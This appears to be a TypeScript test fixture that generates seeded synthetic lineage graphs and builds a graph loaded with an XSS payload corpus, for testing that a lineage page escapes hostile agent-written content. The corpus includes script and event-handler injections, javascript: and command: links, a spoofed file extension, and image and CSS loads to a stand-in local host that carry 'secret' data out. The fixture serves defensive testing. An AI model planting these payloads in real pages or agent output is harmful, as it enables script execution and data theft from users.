// Synthetic lineage graphs for the layout tests, the page tests and the lineage bench: seeded, so
// every run sees the same graph. Plus the XSS payload corpus used against the lineage page.

import type { LineageEdge, LineageEdgeType, LineageGraph, LineageNode, LineageNodeType } from '../../src/core/model/lineage';

export function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

const TYPES: LineageNodeType[] = [
  'span',
  'span',
  'span',
  'tool',
  'document',
  'template',
  'model',
  'guard',
  'dataset',
  'job',
  'code',
  'feedback',
];
const EDGE_FOR: Record<LineageNodeType, LineageEdgeType> = {
  output: 'produced',
  span: 'input_to',
  template: 'rendered_from',
  model: 'used_model',
  tool: 'called',
  guard: 'checked',
  document: 'retrieved',
  dataset: 'derived_from',
  job: 'wrote',
  code: 'ran',
  feedback: 'rated',
};

export interface DagOptions {
  /** Extra cause→effect edges per node (probability of one more). */
  crossLinks?: number;
  /** Share of nodes with a problem status. */
  problems?: number;
}

/**
 * A layered DAG shaped like an upstream closure: one output on the right, every other node feeds
 * one node one layer to its right (and sometimes a second one), layers widening towards the
 * causes. About 1.3 edges per node.
 */
export function layeredDag(n: number, seed = 1, opts: DagOptions = {}): LineageGraph {
  const r = rng(seed);
  const depth = Math.max(3, Math.round(Math.log2(Math.max(2, n)) * 1.5));
  const cross = opts.crossLinks ?? 0.3;
  const problems = opts.problems ?? 0.01;
  // Layer sizes grow geometrically from the output (layer 0) towards the causes.
  const weights = Array.from({ length: depth }, (_, d) => (d === 0 ? 0 : Math.pow(1.35, d)));
  const total = weights.reduce((a, b) => a + b, 0);
  const sizes = weights.map((w, d) => (d === 0 ? 1 : Math.max(1, Math.floor(((n - 1) * w) / total))));
  let sum = sizes.reduce((a, b) => a + b, 0);
  for (let d = depth - 1; sum < n; d = d > 1 ? d - 1 : depth - 1, sum++) sizes[d]++;
  for (let d = depth - 1; sum > n; d = d > 1 ? d - 1 : depth - 1) {
    if (sizes[d] > 1) {
      sizes[d]--;
      sum--;
    }
  }
  const nodes: LineageNode[] = [];
  const edges: LineageEdge[] = [];
  const byDepth: number[][] = [];
  for (let d = 0; d < depth; d++) {
    byDepth.push([]);
    for (let k = 0; k < sizes[d]; k++) {
      const i = nodes.length;
      const type: LineageNodeType = d === 0 ? 'output' : TYPES[Math.floor(r() * TYPES.length)];
      const node: LineageNode = { id: `n${i}`, type, label: `${type} ${i}`, facts: { depth: String(d) } };
      if (type === 'span') node.facts!.kind = ['llm', 'tool', 'retriever', 'agent'][Math.floor(r() * 4)];
      if (d > 0 && r() < problems)
        node.status = type === 'document' || type === 'template' ? 'stale' : type === 'guard' || type === 'feedback' ? 'warning' : 'error';
      nodes.push(node);
      byDepth[d].push(i);
    }
  }
  for (let d = 1; d < depth; d++) {
    for (const i of byDepth[d]) {
      const next = byDepth[d - 1];
      const to = next[Math.floor(r() * next.length)];
      edges.push({ from: `n${i}`, to: `n${to}`, type: EDGE_FOR[nodes[i].type] });
      if (r() < cross) {
        const further = d >= 2 && r() < 0.3 ? byDepth[d - 2] : next;
        const to2 = further[Math.floor(r() * further.length)];
        if (to2 !== to) edges.push({ from: `n${i}`, to: `n${to2}`, type: EDGE_FOR[nodes[i].type] });
      }
    }
  }
  return { nodes, edges };
}

/** The same number of nodes as a tree (parent index per node, -1 for the root): the d3.tree baseline. */
export function treeParents(n: number, seed = 1): number[] {
  const r = rng(seed);
  const parents = [-1];
  for (let i = 1; i < n; i++) parents.push(Math.floor(Math.pow(r(), 1.5) * i));
  return parents;
}

/** Strings an agent could be made to write into a span: markup, script URLs, breakouts, bidi tricks, huge values. */
export const XSS_PAYLOADS: string[] = [
  '<script>window.__pwned = "script"</script>',
  '<img src=x onerror="window.__pwned=\'img\'">',
  '<img src="http://127.0.0.1:9/exfil.png?d=secret">',
  '<svg onload="window.__pwned=\'svg\'"><circle r=5 /></svg>',
  '<svg><foreignObject><body onload="window.__pwned=\'fo\'"></body></foreignObject></svg>',
  '<a href="javascript:window.__pwned=\'js\'">click me</a>',
  '</style><script>window.__pwned="style"</script>',
  '</textarea><script>window.__pwned="textarea"</script>',
  '"><script>window.__pwned="attr"</script>',
  "'><img src=x onerror=window.__pwned='quote'>",
  '<iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe>',
  '<link rel="prefetch" href="http://127.0.0.1:9/prefetch">',
  '<style>@import url("http://127.0.0.1:9/css");body{background:url(http://127.0.0.1:9/bg)}</style>',
  '![x](http://127.0.0.1:9/md.png?d=secret)',
  '<video><source onerror="window.__pwned=\'video\'"></video>',
  '<details open ontoggle="window.__pwned=\'details\'">',
  '<math><mi xlink:href="javascript:window.__pwned=\'math\'">x</mi></math>',
  '{{constructor.constructor("window.__pwned=\'tpl\'")()}}',
  '<a href="command:workbench.action.terminal.new">run</a>',
  'user\u202Egnp.exe',
  'zero\u200Bwidth\u2066isolate\u2069 and \u0000nul \u0007bell',
  '\ud800 lone surrogate \udfff and \uffff',
  '&lt;script&gt; already escaped &amp; ampersand',
];

/** A graph whose labels, facts and ids carry the payload corpus (plus one huge value). */
export function xssGraph(): LineageGraph {
  const nodes: LineageNode[] = [
    { id: 'output:evil', type: 'output', label: XSS_PAYLOADS[0], status: 'error', facts: { text: XSS_PAYLOADS.join('\n') } },
  ];
  const edges: LineageEdge[] = [];
  const types: LineageNodeType[] = ['span', 'template', 'model', 'tool', 'guard', 'document', 'dataset', 'job', 'code', 'feedback'];
  XSS_PAYLOADS.forEach((p, i) => {
    const id = `span:evil:${i}`;
    const facts: Record<string, string> = { payload: p, [p.slice(0, 40)]: 'key is a payload' };
    Object.defineProperty(facts, '__proto__', { value: p, enumerable: true, configurable: true, writable: true });
    nodes.push({ id, type: types[i % types.length], label: p, facts, status: i % 5 === 0 ? 'error' : undefined });
    edges.push({ from: id, to: i < 4 ? 'output:evil' : `span:evil:${i % 4}`, type: 'input_to' });
  });
  nodes.push({ id: 'span:huge', type: 'span', label: `huge ${'A'.repeat(200_000)}`, facts: { big: '<b>'.repeat(100_000) } });
  edges.push({ from: 'span:huge', to: 'output:evil', type: 'input_to' });
  return { nodes, edges };
}
